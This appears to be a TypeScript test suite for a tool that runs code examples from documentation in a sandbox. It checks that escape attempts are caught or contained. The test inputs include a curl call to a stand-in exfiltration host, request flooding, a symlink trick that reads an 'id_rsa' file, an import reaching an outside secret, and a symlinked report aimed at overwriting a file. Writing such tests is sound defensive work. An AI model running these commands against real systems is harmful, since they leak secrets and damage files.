import {
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readProgram } from '../../src/examples/reading/read-program';
import { writeReports } from '../../src/examples/report/write-reports';
import { createTools } from '../../src/examples/run/tools';
import { needing } from '../support/needing';
import { copyOfLibrary, proveLibrary, startLibrary } from '../examples/support/library';

// What guides of others attempt beyond their own example; SECURITY.md lists it.
const contained = process.platform === 'linux';
const { test } = contained ? needing('bash', 'curl', 'python3', 'bwrap') : { test: it.skip };
const tools = createTools();
const copy = copyOfLibrary({ samples: 'none' });
const outside = realpathSync(mkdtempSync(join(tmpdir(), 'outside-')));
afterAll(async () => {
  copy.remove();
  rmSync(outside, { recursive: true, force: true });
  await tools.close();
});

/** The problems of the examples on a page, by their ids. */
async function problemsOf(...fences: readonly string[]): Promise<Record<string, string>> {
  const guide = fences.map((fence) => `Then:\n\n\`\`\`${fence.trim()}\n\`\`\`\n`).join('\n');
  writeFileSync(join(copy.root, 'content/index.mdx'), `# Attack\n\n${guide}`);
  const { findings } = await proveLibrary(tools, copy.root, { page: 'index.mdx', guides: true });
  return Object.fromEntries(findings.results.map(({ example, problem }) => [example.id, problem?.message ?? '']));
}

const lines = (...code: readonly string[]): string => code.join('\n');

/** A program with a connection, over which it can send requests without waiting for a response. */
const connected = ['python verify id=one', 'import socket', 's = socket.create_connection(("localhost", 4010))'];
const request = String.raw`b"GET /books HTTP/1.1\r\nHost: localhost:4010\r\n\r\n"`;

test('requests that a program has sent before it ended are its own', async () => {
  const problems = await problemsOf(
    lines(
      ...connected,
      `s.sendall(${request})`,
      's.recv(9999)',
      `s.sendall(${request} * 300)`,
      String.raw`s.sendall(b"PUT /nothing/here HTTP/1.1\r\nHost: localhost:4010\r\nContent-Length: 0\r\n\r\n")`,
    ),
    lines('bash verify id=two', 'curl -sS http://localhost:4010/books/b-1'),
  );
  expect(problems).toEqual({ one: expect.stringContaining('/nothing/here'), two: '' });
});

test('a program that sends thousands of requests is cut off, and the next one is not', async () => {
  const problems = await problemsOf(
    lines(...connected, `s.sendall(${request} * 1500)`),
    lines('bash verify id=two fresh', 'curl -sS http://localhost:4010/books/b-1'),
  );
  expect(problems).toEqual({ one: 'sent more than 1,000 requests, and was cut off', two: '' });
});

test('lookups that are none end nothing, and hide nothing', async () => {
  const problems = await problemsOf(
    lines(
      'python verify id=one',
      'import os, socket, urllib.request',
      'urllib.request.urlopen("http://localhost:4010/books").read()',
      's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
      String.raw`s.sendto(bytes(12) + b"\x09localhost\x00", ("127.0.0.1", 53))`,
      String.raw`s.sendto(bytes(12) + b"\x09localhost", ("127.0.0.1", 53))`,
      'os.system("sleep 0.2; curl -s --max-time 2 http://stolen.example.net/")',
    ),
    lines('bash verify id=two', 'curl -sS http://localhost:4010/books/b-1'),
  );
  expect(problems).toEqual({ one: expect.stringContaining('stolen.example.net'), two: '' });
});

test('a long line of complaint is read in no time', async () => {
  const problems = await problemsOf(
    lines(
      'bash verify id=one',
      'curl -sS -o x http://localhost:4010/books',
      'head -c 900000 /dev/zero | tr "\\0" x >&2',
      'exit 3',
    ),
  );
  expect(problems.one).toMatch(/^ended with exit code 3, not 0: x+$/);
});

test('types lead to no file outside of the portal', async () => {
  writeFileSync(join(outside, 'secret.ts'), "export const token = 'hunter2' as const;\n");
  const problems = await problemsOf(
    lines(
      'ts verify id=one',
      `const s: 1 = null as unknown as typeof import("${join(outside, 'secret')}").token;`,
      'console.log(s, await fetch("http://localhost:4010/books"));',
    ),
  );
  expect(problems.one).toContain('Cannot find module');
  expect(problems.one).not.toContain('hunter2');
});

test('templates of templates are read in no time', async () => {
  const level = (at: number): string => `  const a${at + 1} = \`${`\${a${at}}`.repeat(20)}\`;`;
  const code = lines(
    'const f = async (h) => {',
    '  const a0 = `${h}`;',
    ...Array.from({ length: 9 }, (_, at) => level(at)),
    '  await fetch(`http://localhost:4010/books/${a9}`);',
    '};',
    "await f('');",
  );
  const { requests, unread } = await readProgram('js', code, async () => undefined);
  // It is said not to be read.
  expect([requests.length, unread.map(({ what }) => what)]).toEqual([0, ['the address']]);
});

test('a folder of packages that is a link is not used, and one of examples that leads out of the portal is refused', async () => {
  const secret = 'the-secret-of-the-host';
  writeFileSync(join(outside, 'id_rsa'), secret);
  symlinkSync(outside, join(copy.root, 'node_modules'));
  const file = join(copy.root, 'node_modules/id_rsa');
  const problems = await problemsOf(
    lines('bash verify id=one', 'curl -sS -o x http://localhost:4010/books', `cat ${file} >&2`),
  );
  expect(problems.one).toContain('No such file');
  expect(problems.one).not.toContain(secret);
  const examples = join(copy.root, 'examples');
  renameSync(examples, join(outside, 'examples'));
  symlinkSync(join(outside, 'examples'), examples);
  await expect(startLibrary(tools, copy.root)).rejects.toThrow(
    `${examples} is a symbolic link to a target outside the portal's folder`,
  );
});

test('a report that is a link is replaced, and not what it leads to', async () => {
  const victim = join(outside, 'victim');
  const reports = join(outside, 'reports');
  mkdirSync(reports);
  writeFileSync(victim, 'precious');
  symlinkSync(victim, join(reports, 'examples.json'));
  const { record } = { record: { examples: [], documentExamples: [], problems: [], duration: 0 } };
  const { file } = writeReports(record as never, reports, {});
  expect(readFileSync(victim, 'utf8')).toBe('precious');
  expect(JSON.parse(readFileSync(file, 'utf8'))).toEqual(record);
});
